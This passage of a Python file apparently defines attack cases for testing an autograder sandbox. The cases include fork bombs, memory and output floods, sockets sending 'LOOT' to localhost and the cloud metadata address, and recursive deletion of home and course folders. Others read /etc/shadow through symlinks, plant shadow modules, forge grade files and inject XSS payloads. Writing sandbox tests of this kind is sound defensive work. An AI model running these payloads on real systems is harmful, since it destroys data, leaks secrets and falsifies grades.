            "    if not os.fork():\n"
            "        kept = [bytearray(os.urandom(1 << 20)) for _ in range(300)]\n"
            "        import time; time.sleep(600)\n"
            "try:\n"
            "    for number in range(100): open(f'/dev/shm/{number}', 'wb').write(bytes(9 << 20))\n"
            "except OSError: pass",
        ),
    ),
    Attack(
        "fork bomb",
        (17,),
        added=(
            "import os, time\n"
            "try:\n    while True:\n        if not os.fork(): time.sleep(600)\n"
            "except OSError: pass",
        ),
    ),
    Attack(
        "daemons, threads and exit handlers",
        (17, 10),
        added=(
            "import atexit, os, signal, subprocess, sys, threading, time\n"
            "atexit.register(lambda: open('@COURSE@/breach', 'w'))\n"
            "for number in range(5):\n"
            "    if not os.fork():\n"
            "        os.setsid()\n"
            "        for n in (1, 2, 3, 15): signal.signal(n, signal.SIG_IGN)\n"
            "        if not os.fork(): time.sleep(600)\n"
            "        os._exit(0)\n"
            "subprocess.Popen(['sleep', '600'], start_new_session=True)\n"
            "threading.Thread(target=time.sleep, args=(600,), daemon=False).start()",
        ),
    ),
    Attack(
        "output flood",
        (18,),
        added=(
            "import sys\nfor _ in range(2000):\n    print('x' * 10_000)\n"
            "    print('y' * 10_000, file=sys.stderr)",
            "from IPython.display import display\nfor _ in range(50): display('x' * 100_000)",
            "raise ValueError('x' * 10_000_000)",
            "def f(n): return f(n + 1)\nf(0)",
            "import os\nfor fd in (1, 2):\n    for _ in range(100): os.write(fd, b'x' * 10_000)",
        ),
    ),
    Attack(
        "flood while it is called",
        (18,),
        answer="def attention_weights(scores):\n"
        "    for _ in range(300): print('x' * 10_000)\n"
        "    raise ValueError('x' * 5_000_000)\n",
    ),
    Attack(
        "a test that quotes what it was given",
        (18,),
        answer="def double(x):\n    return 'x' * 15_000_000\n",
        tests=("found = double(2)\nassert found == 4, f'expected 4, received {found}'",),
    ),
    Attack(
        "every added cell prints all it may",
        (18,),
        added=("print('x' * 10_000_000)",) * 60,
    ),
)

_OUTSIDE = (
    Attack(
        "tcp, udp and unix sockets",
        (19,),
        added=(
            TRY + "import socket, urllib.request\n"
            "def tcp(host, port):\n"
            "    with socket.create_connection((host, port), 1) as sock: sock.sendall(b'LOOT')\n"
            "def udp(host, port):\n"
            "    socket.socket(type=socket.SOCK_DGRAM).sendto(b'LOOT', (host, port))\n"
            "def unix(path):\n"
            "    sock = socket.socket(socket.AF_UNIX); sock.connect(path); sock.sendall(b'LOOT')\n"
            "for host in ('127.0.0.1', '::1', 'localhost', '10.0.2.2', '169.254.169.254'):\n"
            "    attempt(f'tcp {host}', lambda: tcp(host, @TCP@))\n"
            "    attempt(f'udp {host}', lambda: udp(host, @UDP@))\n"
            "attempt('unix', lambda: unix('@UNIX@'))\n"
            "attempt('abstract', lambda: unix('\\0@ABSTRACT@'))\n"
            "attempt('dns', lambda: socket.getaddrinfo('loot.example.org', 80))\n"
            "attempt('http', lambda: urllib.request.urlopen('http://127.0.0.1:@TCP@', timeout=1))",
        ),
    ),
    Attack(
        "raw sockets, netlink and the shell's programs",
        (19,),
        added=(
            TRY + "import socket, subprocess\n"
            "for family in (2, 10, 16, 17, 38, 40):\n"
            "    for kind in (1, 2, 3):\n"
            "        attempt(f'socket {family} {kind}', lambda: socket.socket(family, kind))\n"
            "for kind, port in (('tcp', @TCP@), ('udp', @UDP@)):\n"
            "    command = f'echo > /dev/{kind}/127.0.0.1/{port}'\n"
            "    attempt(kind, lambda: subprocess.run(['bash', '-c', command], check=True))",
        ),
    ),
    Attack(
        "writes and deletes outside",
        (10, 25, 21),
        added=(
            "import os, shutil, pathlib\n"
            "for place in ('@COURSE@', '@HOME@', '@ROOT@/tests', '..', '../..', '/', '/usr',\n"
            "              '/packages', '/packages/autograder', '/etc', '/var/tmp', '/run'):\n"
            "    try: open(place + '/breach', 'w').write('x'); print('BREACH', place)\n"
            "    except OSError: pass\n"
            "for place in ('@COURSE@', '@HOME@'): shutil.rmtree(place, ignore_errors=True)\n"
            "try: pathlib.Path('/packages/autograder/judge.py').unlink(); print('BREACH')\n"
            "except OSError: pass",
        ),
    ),
    Attack(
        "files that name places outside",
        (20, 21),
        added=(
            "import os\n"
            "for name, to in (('a', '@COURSE@/secret.txt'), ('b', '/proc/1/root/etc/shadow'),\n"
            "                 ('c', '@HOME@/secret.txt'), ('d', '/proc/self/cwd/../../secret')):\n"
            "    os.symlink(to, name)\n"
            "    try: print('BREACH', open(name).read())\n"
            "    except OSError: pass\n"
            "os.mkfifo('pipe')\n"
            "os.symlink('/dev/zero', 'checks.json~')",
        ),
    ),
    Attack(
        "shadow modules beside the notebook",
        (23,),
        files={
            f"{name}.py": b"def __getattr__(name): return lambda *a, **k: True\n"
            b"try: open('@COURSE@/breach', 'w')\nexcept OSError: pass\n"
            for name in ("numpy", "autograder", "companion", "torch", "sitecustomize", "solutions")
        },
        added=("import sys\nsys.path.insert(0, '.')\nsys.modules.pop('numpy', None)",),
    ),
    Attack(
        "checks.json is forged and results are written",
        (11, 23, 31),
        files={"results.json": b'{"score": 100}'},
        added=(
            "import json\n"
            "for name in ('checks.json', 'results.json', '/autograder/results/results.json',\n"
            "             '@COURSE@/results.json',\n"
            "             '02_dot_product_self_attention.verdicts.json'):\n"
            "    try: json.dump({'score': 100, 'cells': []}, open(name, 'w'))\n"
            "    except OSError: pass",
        ),
    ),
    Attack(
        "every descriptor is written to",
        (11, 12, 4),
        added=(
            "import os\n"
            "for fd in range(64):\n"
            "    try: os.write(fd, b'{\"score\": 100}\\n' * 9)\n"
            "    except OSError: pass",
        ),
    ),
    Attack(
        "a note for the next submission",
        (25, 29),
        added=(
            "import os, glob, site, tempfile\n"
            "places = ['/tmp', '/dev/shm', '/student', '/var/tmp', '/run', os.getcwd(),\n"
            "          tempfile.gettempdir(), *glob.glob('/packages/*'), *site.getsitepackages()]\n"
            "for place in places:\n"
            "    try: open(place + '/note', 'w').write('LOOT')\n"
            "    except OSError: pass\n"
            "import numpy, companion\n"
            "numpy.note = companion.note = 'LOOT'\n"
            "companion.softmax = lambda *a, **k: 7\n"
            "os.environ['NOTE'] = 'LOOT'",
        ),
    ),
    Attack(
        "side channels of the kernel",
        (29,),
        added=(
            TRY + "import ctypes, fcntl, os, mmap\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "def must(n):\n    if n < 0: raise OSError\n    return n\n"
            "attempt('keyring', lambda: must(libc.syscall(248, b'user', b'x', b'LOOT', 4, -3)))\n"
            "attempt('shm', lambda: must(libc.shmget(77, 4096, 0o1666)))\n"
            "attempt('msg', lambda: must(libc.msgget(77, 0o1666)))\n"
            "room = ctypes.create_string_buffer(120)\n"
            "attempt('io_uring', lambda: must(libc.syscall(425, 8, room)))\n"
            "attempt('memfd', lambda: os.memfd_create('x'))\n"
            "attempt('lock', lambda: fcntl.flock(open(os.__file__), fcntl.LOCK_EX))\n"
            "attempt('inotify', lambda: must(libc.inotify_init()))\n"
            "attempt('unshare', lambda: must(libc.unshare(0x10000000)))\n"
            "attempt('mount', lambda: must(libc.mount(b'x', b'/tmp', b'tmpfs', 0, None)))\n"
            "attempt('handle', lambda: must(libc.syscall(304, -100, 0, 0)))",
        ),
    ),
)

_NOTEBOOKS = (
    Attack("tests are tagged to be skipped", (2,), whole=_each_test(_tag)),
    Attack("results are forged in the file", (3, 12), whole=_each_test(_forge_result)),
    Attack("tests are marked as solutions", (30, 3), whole=_each_test(_make_solution)),
    Attack("tests are emptied and unlocked", (30,), whole=_each_test(_unlock)),
    Attack("tests become markdown", (30, 2), whole=_each_test(_to_markdown)),
    Attack("tests are deleted", (30, 14), whole=_edited(_delete_tests)),
    Attack("tests are doubled and empty", (30,), whole=_edited(_double_tests)),
    Attack("names of cells are swapped", (30,), whole=_edited(_swap_names)),
    Attack("metadata of odd shapes", (30, 14), whole=_edited(_odd_metadata)),
    Attack("an unanswered question is marked as answered", (30,), whole=_edited(_same_checksum)),
    Attack("scripts in an answer in words", (24,), whole=_edited(_scripts)),
    Attack("half a surrogate pair in the sources", (14, 30), whole=_edited(_surrogates)),
    Attack("file is cut off", (14,), whole=_cut),
    Attack("nested a hundred thousand deep", (14, 16), whole=lambda _: b"[" * 100_000),
    Attack(
        "scripts in every kind of output",
        (24,),
        added=(
            "from IPython.display import display\n"
            "bad = '<script>alert(1)</script><img src=x onerror=alert(1)>'\n"
            "kinds = ('text/html', 'text/markdown', 'text/latex', 'image/svg+xml',\n"
            "         'application/javascript', 'application/vnd.jupyter.widget-view+json',\n"
            "         'application/vnd.autograder.report+json', 'image/png')\n"
            "for kind in kinds: display({kind: bad, 'text/plain': 'x'}, raw=True)",
            "text = '<script>alert(1)</script>'\nraise type(text, (Exception,), {})(text)",
        ),
    ),
)

_FOLDERS = (
    Attack("notebook is a link to a neighbour's", (20, 25), folder=_notebook_of_a_neighbour),
    Attack("folder is a link to a neighbour's", (20, 25), folder=_folder_of_a_neighbour),
    Attack("links to the gradebook and secrets", (20,), folder=_links),
    Attack("a pipe among the files", (20, 15), folder=_pipe("data.csv")),
    Attack("timestamp is a pipe", (26, 15), folder=_pipe("timestamp.txt")),
    Attack("timestamp is a link to no end of zeros", (26, 16), folder=_endless_timestamp),
    Attack("timestamp that can't be read", (26, 14), folder=_bad_timestamp),
    Attack("a folder in the place of the record", (11, 14), folder=_folder_for_the_record),
    Attack("forged record, configuration and modules", (11, 23, 33), folder=_forged_files),
    Attack("more files than fit", (22, 14), folder=_large_files),
    Attack("five hundred files", (22,), folder=_many_files),
    Attack("archives in archives", (22, 21), folder=_archives),
    Attack("names that lead elsewhere", (21,), folder=_odd_names),
    Attack("surrogates through nbgrader", (14,), folder=_rewrite(_edited(_surrogates))),
    Attack("tests deleted after full marks", (14, 30), folder=_rewrite(_edited(_delete_tests))),
    Attack("three hundred thousand cells", (15, 14), folder=_rewrite(_many_cells)),
)

ATTACKS: tuple[Attack, ...] = (
    *_IN_PROCESS, *_LIARS, *_SPIES, *_PROTOCOL, *_ENDS, *_OUTSIDE, *_NOTEBOOKS, *_FOLDERS,
)  # fmt: skip
